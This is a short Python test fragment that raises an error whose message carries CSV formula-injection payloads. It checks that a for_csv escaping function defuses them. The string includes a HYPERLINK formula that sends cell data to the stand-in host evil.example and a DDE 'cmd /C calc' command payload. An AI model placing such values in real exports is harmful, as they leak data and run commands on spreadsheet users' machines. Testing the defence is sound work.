# attack: formulas after `;`, `,` and tabs in its error, for grades.csv's reason in a `;` locale
# defence: for_csv escapes tabs and puts an apostrophe before any segment that starts a formula
raise ValueError('oops;=HYPERLINK("http://evil.example/?"&A1,"click");\t=cmd|\' /C calc\'!A0,'
                 ' @SUM(1+1)\n-2+3;\uff1d1+1')
